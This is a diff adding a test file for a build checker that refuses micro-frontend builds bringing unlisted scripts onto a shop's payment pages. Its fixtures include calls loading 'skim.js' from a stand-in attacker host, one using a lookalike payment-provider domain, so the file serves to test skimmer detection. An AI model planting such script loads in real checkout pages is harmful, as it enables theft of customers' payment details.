@@ -1,0 +1,70 @@
+import { writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { eachTestHasFolder } from '../../testing/each-test-has-folder';
+import type { RegistryStore } from '../state/registry-state';
+import type { CheckedBuild } from './check-contract';
+import { findPaymentFaults } from './payment-page';
+
+let folder: string;
+
+eachTestHasFolder('build', (made) => (folder = made));
+
+const route = (address: string, fragments: readonly string[] = []) => ({
+  path: address,
+  module: './screen',
+  title: 'Screen',
+  fragments: [...fragments],
+});
+
+/** The live checkout shows the fragment gift-note, which nobody has yet. */
+const store = {
+  state: {
+    releases: async () => ({ remotes: { 'mf-checkout': { live: '1.0.0' }, 'mf-gone': { live: null } } }),
+    versions: {
+      record: async () => ({ routes: { routes: [route('/checkout-page', ['gift-note'])], fragments: {} } }),
+    },
+  },
+} as unknown as RegistryStore;
+
+function faultsOf(remote: string, { script = '', routes }: { script?: string; routes?: CheckedBuild['routes'] } = {}) {
+  writeFileSync(path.join(folder, 'main.js'), script);
+  const build = { remote, exposes: {}, integrity: { 'main.js': 'sha384-x', 'main.css': 'sha384-y' }, routes };
+  return findPaymentFaults(folder, build, store);
+}
+
+describe('A build is refused by the inventory of payment pages', () => {
+  it.each([
+    ['mf-cart', 'load("https://evil.example/skim.js?v=1")', 'https://evil.example/skim.js?v=1'],
+    ['mf-checkout', 'load("https://evil.example/skim.mjs")', 'https://evil.example/skim.mjs'],
+    ['mf-checkout', "import('//evil.example/a/skim.js')", '//evil.example/a/skim.js'],
+    [
+      'mf-checkout',
+      'load(`https://checkout.razorpay.com.evil.example/v1/x.js`)',
+      'https://checkout.razorpay.com.evil.example/v1/x.js',
+    ],
+    ['mf-cart', 'load("https://checkout.razorpay.com/v1/checkout.js")', 'https://checkout.razorpay.com/v1/checkout.js'],
+  ])('when %s has %s', async (remote, script, url) => {
+    expect(await faultsOf(remote, { script })).toEqual([
+      expect.stringContaining(`main.js of ${remote} names the script ${url}, which no page of the shop runs`),
+    ]);
+  });
+
+  it.each([
+    ['the checkout itself', { routes: [route('/checkout-page')], fragments: {} }, '/checkout-page'],
+    ['a fragment of it', { routes: [], fragments: { 'gift-note': './note' } }, 'gift-note'],
+  ])('when it shows %s, and none of its scripts is in the inventory', async (_, routes, claim) => {
+    expect(await faultsOf('mf-gift', { routes })).toEqual([
+      expect.stringContaining(`mf-gift shows ${claim} on a payment page, whose inventory has no script of mf-gift`),
+    ]);
+  });
+});
+
+it('A build that brings no other script to a payment page is not refused', async () => {
+  const checkout = { routes: [route('/checkout-page', ['gift-note'])], fragments: {} };
+  const script = 'load("https://checkout.razorpay.com/v1/checkout.js"); see("https://redux.js.org/errors")';
+  expect(await faultsOf('mf-checkout', { script, routes: checkout })).toEqual([]);
+
+  const gift = { routes: [route('/gift-page', ['gift-note'])], fragments: { 'gift-card': './card' } };
+  expect(await faultsOf('mf-gift', { script: 'load("/shell/later.js")', routes: gift })).toEqual([]);
+  expect(await faultsOf('mf-gift')).toEqual([]);
+});
